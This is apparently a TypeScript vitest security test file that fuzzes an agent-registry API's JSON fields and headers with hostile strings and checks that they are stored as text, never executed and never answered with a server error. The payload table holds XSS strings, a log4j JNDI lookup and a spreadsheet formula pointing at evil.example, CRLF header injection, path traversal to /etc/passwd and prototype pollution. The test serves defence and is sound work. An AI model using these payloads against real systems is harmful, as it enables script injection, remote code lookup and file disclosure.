/**
 * Attack: webhook name, agent fields with HTML, CRLF, 4-byte characters, 1 MB strings, `__proto__`: stored or refused as
 * text; never executed, never a 500. Every text of every body, from the OpenAPI document.
 */
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { agentFields, type Body, call, newOrganization, type Organization, unique } from "../support/api.ts";
import { filled, type Operation, operations, resolved } from "./_operations.ts";

const hostile: Readonly<Record<string, string>> = {
  "a script": "<script>alert(1)</script>",
  "a picture": '"><img src=x onerror=alert(1)>',
  "an end of a comment": "--><svg onload=alert(1)>",
  "an end of CDATA": "]]><x/>",
  "a template": "{{7*7}}\u0024{7*7}<%= 7*7 %>#{7*7}",
  "a formula": '=HYPERLINK("https://evil.example","x")',
  "a log4j lookup": "\u0024{jndi:ldap://evil.example/a}",
  "a header": "a\r\nSet-Cookie: session=1\r\n\r\n<html>",
  "a log line": 'a\n{"level":"error","message":"forged"}',
  "a terminal's colors": "\u001b[31mred\u001b[0m",
  "a NUL": "a\u0000b",
  "4-byte characters": "𝕒𝖌𝓮𝔫𝗍 🦊👩‍👩‍👧‍👦",
  "right to left": "\u202egnp.exe",
  "a lone surrogate": "a\ud800b",
  "a byte order mark": "\ufeffa",
  "zero width": "a\u200bb",
  "combining marks": `Z${"\u0335\u0336\u0338".repeat(30)}`,
  __proto__: "__proto__",
  "a member of every object": "constructor",
  "a path": "../../../../etc/passwd",
  "a format": "%s%s%n%x",
  "nothing but space": "   ",
};
const names = [...Object.keys(hostile), "__proto__"];
const text = (name: string) => (name === "__proto__" ? "__proto__" : (hostile[name] ?? ""));

const megabyte = "A".repeat(1024 * 1024);
const almostTooLarge = "🦊".repeat(60_000);

let tenant: Organization;

beforeAll(async () => {
  // The webhooks that the texts make are delivered to nobody.
  vi.spyOn(globalThis, "fetch").mockImplementation(async () => new Response(null, { status: 204 }));
  tenant = await newOrganization();
});
afterAll(() => void vi.restoreAllMocks());

/** The names of the texts of a schema, its alternatives included. */
function textsOf(schema: Body): string[] {
  const { properties = {}, oneOf = [], anyOf = [], allOf = [] } = resolved(schema ?? {});
  const isText = (field: Body): boolean => {
    const { type, anyOf: either = [], oneOf: or = [] } = resolved(field);
    return [type].flat().includes("string") || [...either, ...or].some(isText);
  };
  const own = Object.entries<Body>(properties).flatMap(([name, field]) => (isText(field) ? [name] : []));
  return [...new Set([...own, ...[...oneOf, ...anyOf, ...allOf].flatMap(textsOf)])];
}

const ids = () => ({ orgId: tenant.organizationId, agentId: tenant.agentId, credentialId: tenant.credentialId });
const ask = ({ method, path, bearer }: Operation, json: unknown) =>
  call(filled(path, ids()), { method, json, ...(bearer === "none" ? {} : { token: tenant.token }) });

/** Those but Stripe's webhook, which without an account at Stripe truthfully says 503; see stripe-events.node.test.ts. */
const takingText = operations
  .filter(({ operationId }) => operationId !== "receiveEventFromStripe")
  .filter(({ body }) => body?.type === "application/json" && textsOf(body.schema).length > 0);

describe("a text of any body is never a 500, and never a page", () => {
  it("the document has bodies with texts", () => {
    expect(takingText.length).toBeGreaterThan(12);
  });

  it.each(takingText)("$method $path", async (operation) => {
    for (const field of textsOf(operation.body?.schema)) {
      for (const value of [...names.map(text), almostTooLarge]) {
        const { status, headers, text: answered } = await ask(operation, { [field]: value });
        expect(status, `${field}: ${answered.slice(0, 300)}`).toBeLessThan(500);
        expect(headers.get("Content-Type") ?? "application/json").toMatch(/^application\/([a-z-]+\+)?json/);
        expect(headers.get("X-Content-Type-Options")).toBe("nosniff");
        expect(headers.get("Set-Cookie")).toBe(null);
        // An error tells at most the beginning of what it got.
        expect(answered.length).toBeLessThan(10_000);
      }
      expect((await ask(operation, { [field]: megabyte })).status).toBe(413);
    }
  });

  it.each(takingText)("in the place of a field's name, at $method $path", async (operation) => {
    for (const name of names.map(text)) {
      const json = `{${JSON.stringify(name)}:{"polluted":"yes"}}`;
      const { status } = await call(filled(operation.path, ids()), {
        method: operation.method,
        body: json,
        headers: { "Content-Type": "application/json" },
        ...(operation.bearer === "none" ? {} : { token: tenant.token }),
      });
      expect(status).toBeLessThan(500);
      expect(({} as { polluted?: string }).polluted).toBe(undefined);
    }
  });
});

describe("what is stored comes back as it was sent", () => {
  /** Taken or refused as text: if taken, it reads back the same, character by character. */
  async function expectText(
    path: string,
    answer: { status: number; body: Body; text: string },
    field: string,
    value: string,
  ) {
    expect([200, 201, 400], answer.text).toContain(answer.status);
    if (answer.status === 400) return expect(answer.body.code).toBe("VALIDATION_ERROR");
    expect(answer.body[field]).toBe(value);
    const id = answer.body.id ?? answer.body.agentId ?? answer.body.partnerId ?? answer.body.organizationId;
    expect((await call(`${path}/${id}`, { token: tenant.token })).body[field]).toBe(value);
  }

  it.each(names)("the owner and description of an agent: %s", async (name) => {
    for (const field of ["owner", "description"]) {
      const answer = await call("/api/v1/agents", { token: tenant.token, json: agentFields({ [field]: text(name) }) });
      await expectText("/api/v1/agents", answer, field, text(name));
    }
  });

  it.each(names)("the name of a webhook: %s", async (name) => {
    const json = { name: text(name), url: "https://hooks.example.com/", events: ["agent.created"] };
    await expectText(
      "/api/v1/webhooks",
      await call("/api/v1/webhooks", { token: tenant.token, json }),
      "name",
      text(name),
    );
  });

  it.each(names)("the name of a partner: %s", async (name) => {
    const json = { name: text(name), issuer: `https://${unique("idp")}.example.com` };
    const answer = await call("/api/v1/federation/trust", { token: tenant.token, json });
    await expectText("/api/v1/federation/partners", answer, "name", text(name));
  });

  it.each(names)("the name of the organization: %s", async (name) => {
    const at = `/api/v1/organizations/${tenant.organizationId}`;
    const answer = await call(at, { method: "PATCH", token: tenant.token, json: { name: text(name) } });
    await expectText("/api/v1/organizations", answer, "name", text(name));
  });

  it("in every document about the agent, as text that nothing executes", async () => {
    const owner = "</script><script>alert(1)</script>\"'&\u2028";
    const { body } = await call("/api/v1/agents", {
      token: tenant.token,
      json: agentFields({ owner, isPublic: true }),
    });
    for (const path of [
      `/agents/${body.agentId}/did.json`,
      `/api/v1/agents/${body.agentId}/did/card`,
      `/api/v1/marketplace/agents/${body.agentId}`,
      "/api/v1/compliance/agent-cards?format=a2a",
      "/api/v1/audit?limit=1",
    ]) {
      const answer = await call(path, { token: tenant.token });
      expect([path, answer.status]).toEqual([path, 200]);
      expect(answer.headers.get("Content-Type")).toMatch(/json/);
      expect(answer.headers.get("X-Content-Type-Options")).toBe("nosniff");
    }
    expect((await call(`/agents/${body.agentId}/did.json`)).body.agntcy.owner).toBe(owner);
  });
});

describe("headers", () => {
  it("a hostile user agent is text in the audit log", async () => {
    const userAgent = '<script>alert(1)</script> \u0024{jndi:ldap://evil.example} "}';
    await call("/api/v1/token", {
      basic: tenant,
      form: { grant_type: "client_credentials" },
      headers: { "User-Agent": userAgent },
    });
    const { body } = await call("/api/v1/audit?action=token.issued&limit=1", { token: tenant.token });
    expect(body.data[0].actor.userAgent).toBe(userAgent);
  });

  it("a hostile request id is replaced", async () => {
    for (const id of ["<script>", "a b", "x".repeat(500), "../../x", "é"]) {
      const { headers } = await call("/health", { headers: { "X-Request-Id": id } });
      expect(headers.get("X-Request-Id")).toMatch(/^[0-9a-f-]{36}$/);
    }
  });
});
